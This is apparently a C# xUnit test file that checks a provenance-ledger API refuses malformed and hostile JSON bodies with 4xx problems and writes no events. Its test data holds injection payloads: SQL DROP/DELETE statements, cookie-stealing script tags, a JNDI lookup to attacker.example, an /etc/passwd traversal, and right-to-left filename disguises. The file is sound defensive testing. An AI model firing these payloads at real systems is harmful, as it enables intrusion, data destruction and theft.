using System.Collections;
using System.Net;
using System.Net.Http.Json;
using System.Reflection;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Http.Metadata;
using Microsoft.AspNetCore.Routing;

namespace Provenance.Api.Tests.Access;

/// <summary>
/// A corpus of malformed and hostile bodies, run against every endpoint that takes a JSON body (as
/// an administrator, so nothing but the input itself can be refused): every case is answered with
/// a 4xx problem, never a 5xx, and writes no event. The one exception is SQL- or script-looking
/// text in free-text fields of an otherwise valid request: that is only text, and is recorded as
/// sent (never a 5xx; see <see cref="Sql_and_script_looking_text_is_only_text_stored_as_sent"/>).
/// </summary>
public sealed class HostileInputTests(ApiFixture api) : IClassFixture<ApiFixture>
{
    private const string Json = "application/json";

    /// <summary>One body. <paramref name="Legitimate"/>: text that is only text, which a request otherwise valid may record (never a 5xx, though).</summary>
    private sealed record Case(string Name, Func<Type, string> Body, string ContentType = Json, bool Chunked = false, bool Legitimate = false);

    /// <summary>Text no field takes: control characters, disguising Unicode, text beyond any limit.</summary>
    private static readonly string[] MalformedText =
    [
        "EHR\u0000extract", "ansi \u001b[31mred\u001b[0m", "bell\u0007", "\u202Egnp.exe", "isolate \u2066x\u2069", "lone @SURROGATE@ surrogate", "\uFFFF",
        new string('x', 100_000),
    ];

    /// <summary>Text that looks like an attack on something other than the ledger: harmless as text, refused anywhere a typed value belongs.</summary>
    private static readonly string[] InjectionText =
    [
        "'; DROP TABLE provenance.events; --", "\" OR 1=1 --", "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
        "{{7*7}} ${jndi:ldap://attacker.example/a}", "../../../../etc/passwd",
    ];

    private static readonly string[] AbsurdDates = ["99999-01-01", "0000-00-00", "2024-02-30", "-0001-01-01", "2024-1-1", "today"];

    private static readonly string[] AbsurdInstants =
        ["9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "2024-13-01T00:00:00Z", "2024-01-01T25:00:00Z", "2024-01-01", "1e10"];

    private static readonly string[] AbsurdNumbers = ["1e400", "-1e400", "9223372036854775808", "-9223372036854775809", "1.5", "\"12\"", "true", "-0"];

    private static IEnumerable<Case> Corpus()
    {
        yield return new("broken JSON", _ => "{\"name\": ");
        yield return new("not JSON", _ => "plain words, not JSON");
        yield return new("a JSON array", _ => "[1, 2, 3]");
        yield return new("JSON null", _ => "null");
        yield return new("a JSON string", _ => "\"text\"");
        yield return new("an empty body", _ => "");
        yield return new("an unknown property", _ => "{\"patientName\": \"Jane Doe\"}");
        yield return new("a property given twice", t => $"{{\"{First(t)}\": null, \"{First(t)}\": null}}");
        yield return new("a body nested 200 deep", t => $"{{\"{First(t)}\": {new string('[', 200)}{new string(']', 200)}}}");
        yield return new("a body nested 200 deep at the root", _ => new string('[', 200) + new string(']', 200));
        yield return new("a 2 MiB body", t => $"{{\"{First(t)}\": \"{new string('x', 2 * 1024 * 1024)}\"}}");
        yield return new("a 2 MiB body without a length", t => $"{{\"{First(t)}\": \"{new string('x', 2 * 1024 * 1024)}\"}}", Chunked: true);
        yield return new("every property of the wrong kind", t => Fill(t, _ => new JsonArray(new JsonObject())).ToJsonString());
        yield return new("every property an object", t => Fill(t, _ => new JsonObject()).ToJsonString());
        for (var i = 0; i < MalformedText.Length; i++)
        {
            var text = MalformedText[i];
            yield return new($"malformed text #{i}", t => Fill(t, k => k == Kind.Text ? JsonValue.Create(text) : null).ToJsonString()
                .Replace("@SURROGATE@", "\\uD800", StringComparison.Ordinal));
        }

        for (var i = 0; i < InjectionText.Length; i++)
        {
            var text = InjectionText[i];
            yield return new($"injection text #{i} where typed values belong", t => Fill(t, k => k == Kind.Text ? null : JsonValue.Create(text)).ToJsonString());
            yield return new($"injection text #{i} as text", t => Fill(t, k => k == Kind.Text ? JsonValue.Create(text) : null).ToJsonString(), Legitimate: true);
        }

        foreach (var date in AbsurdDates)
        {
            yield return new($"the date {date}", t => Raw(Fill(t, k => k == Kind.Date ? JsonValue.Create("@@") : null), date));
        }

        foreach (var instant in AbsurdInstants)
        {
            yield return new($"the instant {instant}", t => Raw(Fill(t, k => k == Kind.Instant ? JsonValue.Create("@@") : null), instant));
        }

        foreach (var number in AbsurdNumbers)
        {
            yield return new($"the number {number}", t => Fill(t, k => k == Kind.Number ? JsonValue.Create("@@") : null).ToJsonString().Replace("\"@@\"", number, StringComparison.Ordinal));
        }

        yield return new("text/plain", _ => "{}", "text/plain");
        yield return new("application/xml", _ => "<dataset/>", "application/xml");
        yield return new("a form", _ => "name=x", "application/x-www-form-urlencoded");
        yield return new("multipart", _ => "--b\r\n\r\nx\r\n--b--", "multipart/form-data; boundary=b");
        yield return new("no content type", _ => "{}", "");
    }

    private IEnumerable<(string Pattern, Type Body)> JsonWriteEndpoints() =>
        api.Service<EndpointDataSource>().Endpoints.OfType<RouteEndpoint>()
            .Where(e => e.Metadata.GetMetadata<HttpMethodMetadata>()?.HttpMethods.Contains("POST") == true)
            .Select(e => (e.RoutePattern.RawText!, e.Metadata.GetOrderedMetadata<IAcceptsMetadata>().LastOrDefault(a => a.ContentTypes.Contains(Json))?.RequestType))
            .Where(e => e.Item2 is not null)
            .Select(e => (e.Item1, e.Item2!));

    [Fact]
    public async Task Every_json_write_endpoint_answers_every_hostile_body_with_a_4xx_and_writes_nothing()
    {
        var resources = await LedgerResources.CreateAsync(api);
        var endpoints = JsonWriteEndpoints().ToList();
        Assert.True(endpoints.Count >= 24, $"only {endpoints.Count} JSON write endpoints found");
        var before = await api.CountEventsAsync();
        var failures = new List<string>();
        foreach (var (pattern, type) in endpoints)
        {
            foreach (var @case in Corpus())
            {
                using var request = new HttpRequestMessage(HttpMethod.Post, resources.Path(pattern)) { Content = Content(@case, type) };
                using var response = await api.Client.SendAsync(request);
                var status = (int)response.StatusCode;
                var refused = status is >= 400 and < 500 && response.Content.Headers.ContentType?.MediaType == "application/problem+json";
                if (!refused && !(@case.Legitimate && status is >= 200 and < 300))
                {
                    failures.Add($"{pattern} with {@case.Name}: {status} {Truncate(await response.Content.ReadAsStringAsync())}");
                }

                var after = await api.CountEventsAsync();
                if (after != before && !(@case.Legitimate && !refused && after == before + 1))
                {
                    failures.Add($"{pattern} with {@case.Name}: {after - before} event(s) written");
                }

                before = after;
            }
        }

        Assert.True(failures.Count == 0, string.Join("\n", failures));
    }

    [Fact]
    public async Task Every_hostile_line_of_an_import_is_answered_with_a_4xx_and_writes_nothing()
    {
        var before = await api.CountEventsAsync();
        var lines = Corpus().Where(c => c.ContentType == Json && !c.Chunked && !c.Name.Contains("2 MiB", StringComparison.Ordinal))
            .Select(c => c.Body(typeof(Datasets.RegisteringDataset.RegisterDatasetRequest)))
            .Where(b => b.Length > 0 && !b.Contains('\n', StringComparison.Ordinal))
            .SelectMany(b => new[] { b, $"{{\"command\": \"register-dataset\", \"body\": {b}}}" })
            .ToList();

        using var response = await api.Client.PostAsync("/imports", new StringContent(string.Join('\n', lines), Encoding.UTF8, "application/x-ndjson"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var statuses = (await response.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries)
            .Select(l => JsonDocument.Parse(l).RootElement.GetProperty("status").GetInt32()).ToList();
        Assert.Equal(lines.Count, statuses.Count);
        Assert.All(statuses, s => Assert.InRange(s, 400, 499));
        Assert.Equal(before, await api.CountEventsAsync());
    }

    [Fact]
    public async Task An_import_line_nested_deeper_than_32_levels_is_refused_as_nested_too_deeply()
    {
        var nested = new string('[', 40) + new string(']', 40);

        using var response = await api.Client.PostAsync("/imports",
            new StringContent($"{{\"command\": \"register-dataset\", \"body\": {{\"name\": {nested}}}}}", Encoding.UTF8, "application/x-ndjson"));

        var result = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
        Assert.Equal(400, result.GetProperty("status").GetInt32());
        Assert.Contains("nested too deeply", result.GetProperty("problem").GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(32, api.Service<Microsoft.Extensions.Options.IOptions<Microsoft.AspNetCore.Http.Json.JsonOptions>>().Value.SerializerOptions.MaxDepth);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_body_over_the_limit_is_a_413_problem_with_or_without_a_length(bool chunked)
    {
        var body = JsonSerializer.SerializeToNode(Requests.ValidDataset())!.AsObject();
        body["description"] = new string('x', 1024 * 1024);
        var before = await api.CountEventsAsync();

        using var response = await api.Client.PostAsync("/datasets", Content(new Case("big", _ => body.ToJsonString(), Chunked: chunked), typeof(object)));

        Assert.Equal(before, await api.CountEventsAsync());
        var problem = await Problems.AssertAsync(response, HttpStatusCode.RequestEntityTooLarge, "payload-too-large");
        Assert.Contains("1,048,576 bytes", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_property_given_twice_is_a_400_naming_it()
    {
        var text = JsonSerializer.Serialize(Requests.ValidDataset()).Replace("{\"name\":", "{\"name\": \"first\", \"name\":", StringComparison.Ordinal);

        using var response = await api.Client.PostAsync("/datasets", new StringContent(text, Encoding.UTF8, Json));

        var problem = await Problems.AssertAsync(response, HttpStatusCode.BadRequest, "malformed-request");
        Assert.Equal(["appears more than once"], Problems.Reasons(problem, "name"));
    }

    [Theory]
    [InlineData("'; DROP TABLE provenance.events; --")]
    [InlineData("<script>alert(document.cookie)</script>")]
    [InlineData("Robert'); DELETE FROM provenance.streams; -- \"quoted\" \\ backslash")]
    public async Task Sql_and_script_looking_text_is_only_text_stored_as_sent(string name)
    {
        using var response = await api.Client.PostAsJsonAsync("/datasets", Requests.ValidDataset(name));

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var dataset = await api.Client.GetFromJsonAsync<JsonElement>(response.Headers.Location);
        Assert.Equal(name, dataset.GetProperty("name").GetString());
        Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
    }

    [Theory]
    [InlineData("\\u202Egnp.exe", 422, "bidirectional")]
    [InlineData("isolate \\u2066x\\u2069", 422, "bidirectional")]
    [InlineData("\\uFFFF", 422, "noncharacter")]
    [InlineData("lone \\uD800 surrogate", 400, "wrong type or is malformed")]
    public async Task Text_that_could_disguise_itself_is_refused(string escapedName, int status, string reason)
    {
        // Sent as JSON escapes: a client's serializer would replace the lone surrogate before it left.
        var text = JsonSerializer.Serialize(Requests.ValidDataset("@@")).Replace("@@", escapedName, StringComparison.Ordinal);
        using var response = await api.Client.PostAsync("/datasets", new StringContent(text, Encoding.UTF8, Json));

        var problem = await Problems.AssertAsync(response, (HttpStatusCode)status, status == 400 ? "malformed-request" : "validation-failed");
        Assert.Contains(reason, Assert.Single(Problems.Reasons(problem, "name")), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_text_field_of_every_write_is_checked_on_its_own()
    {
        var resources = await LedgerResources.CreateAsync(api);
        var before = await api.CountEventsAsync();
        var failures = new List<string>();
        var checkedFields = 0;
        foreach (var (pattern, type) in JsonWriteEndpoints())
        {
            foreach (var path in TextPaths(type, ""))
            {
                checkedFields++;
                using var response = await api.Client.PostAsync(resources.Path(pattern),
                    new StringContent(Body(path, new string('x', 100_000)).ToJsonString(), Encoding.UTF8, Json));
                var problem = JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement;
                if (response.StatusCode != HttpStatusCode.UnprocessableEntity || !problem.TryGetProperty("errors", out var errors) ||
                    !errors.TryGetProperty(path, out _))
                {
                    failures.Add($"{pattern}: an over-long {path} was not refused by name ({(int)response.StatusCode})");
                }
            }
        }

        Assert.True(checkedFields > 50, $"only {checkedFields} text fields found");
        Assert.True(failures.Count == 0, string.Join("\n", failures));
        Assert.Equal(before, await api.CountEventsAsync());
    }

    /// <summary>Every text field of a request type as a JSON path (lists as their first item).</summary>
    private static IEnumerable<string> TextPaths(Type type, string prefix, int depth = 0)
    {
        foreach (var property in type.GetProperties(BindingFlags.Public | BindingFlags.Instance).Where(p => p.GetIndexParameters().Length == 0))
        {
            var propertyType = Nullable.GetUnderlyingType(property.PropertyType) ?? property.PropertyType;
            var isList = propertyType != typeof(string) && propertyType.IsGenericType && typeof(IEnumerable).IsAssignableFrom(propertyType);
            var target = isList ? propertyType.GetGenericArguments()[0] : propertyType;
            var path = prefix + Name(property) + (isList ? "[0]" : "");
            if (target == typeof(string))
            {
                yield return path;
            }
            else if (target.IsClass && depth < 3 && target.Namespace?.StartsWith("Provenance", StringComparison.Ordinal) == true)
            {
                foreach (var nested in TextPaths(target, path + ".", depth + 1))
                {
                    yield return nested;
                }
            }
        }
    }

    /// <summary>A body holding only <paramref name="path"/> (such as <c>files[0].path</c>), set to <paramref name="value"/>.</summary>
    private static JsonObject Body(string path, string value)
    {
        var root = new JsonObject();
        JsonNode current = root;
        var segments = path.Split('.');
        for (var i = 0; i < segments.Length; i++)
        {
            var last = i == segments.Length - 1;
            var name = segments[i].Replace("[0]", "", StringComparison.Ordinal);
            var isList = segments[i].EndsWith("[0]", StringComparison.Ordinal);
            JsonNode next = last ? JsonValue.Create(value) : new JsonObject();
            current[name] = isList ? new JsonArray(next) : next;
            current = next;
        }

        return root;
    }

    private static HttpContent Content(Case @case, Type type)
    {
        var bytes = Encoding.UTF8.GetBytes(@case.Body(type));
        HttpContent content = @case.Chunked ? new StreamContent(new UnknownLengthStream(bytes)) : new ByteArrayContent(bytes);
        if (@case.ContentType.Length > 0)
        {
            content.Headers.TryAddWithoutValidation("Content-Type", @case.ContentType);
        }

        return content;
    }

    private static string Truncate(string text) => text.Length > 300 ? text[..300] + "…" : text;

    private enum Kind
    {
        Text,
        Date,
        Instant,
        Number,
        Other,
    }

    private static string First(Type type) => Name(type.GetProperties(BindingFlags.Public | BindingFlags.Instance)[0]);

    private static string Name(PropertyInfo property) => JsonNamingPolicy.CamelCase.ConvertName(property.Name);

    /// <summary>The request type as JSON with every property of some kinds set to a value (nested records and lists followed one level down).</summary>
    private static JsonObject Fill(Type type, Func<Kind, JsonNode?> value, int depth = 0)
    {
        var json = new JsonObject();
        foreach (var property in type.GetProperties(BindingFlags.Public | BindingFlags.Instance).Where(p => p.GetIndexParameters().Length == 0))
        {
            var propertyType = Nullable.GetUnderlyingType(property.PropertyType) ?? property.PropertyType;
            var item = propertyType != typeof(string) && typeof(IEnumerable).IsAssignableFrom(propertyType) && propertyType.IsGenericType
                ? propertyType.GetGenericArguments()[0]
                : null;
            var target = Nullable.GetUnderlyingType(item ?? propertyType) ?? item ?? propertyType;
            JsonNode? node = KindOf(target) is var kind and not Kind.Other ? value(kind)
                : target.IsClass && target != typeof(string) && depth < 2 && target.Namespace?.StartsWith("Provenance", StringComparison.Ordinal) == true
                    ? Fill(target, value, depth + 1)
                    : value(Kind.Other);
            if (node is not null)
            {
                json[Name(property)] = item is null ? node : new JsonArray(node);
            }
        }

        return json;
    }

    private static Kind KindOf(Type type) =>
        type == typeof(string) ? Kind.Text
        : type == typeof(DateOnly) ? Kind.Date
        : type == typeof(DateTimeOffset) ? Kind.Instant
        : type == typeof(int) || type == typeof(long) || type == typeof(decimal) || type == typeof(double) ? Kind.Number
        : Kind.Other;

    private static string Raw(JsonObject json, string value) => json.ToJsonString().Replace("\"@@\"", JsonSerializer.Serialize(value), StringComparison.Ordinal);

    /// <summary>A body sent chunked, with no Content-Length, so only reading it can find it too large.</summary>
    private sealed class UnknownLengthStream(byte[] bytes) : MemoryStream(bytes)
    {
        public override bool CanSeek => false;
    }
}
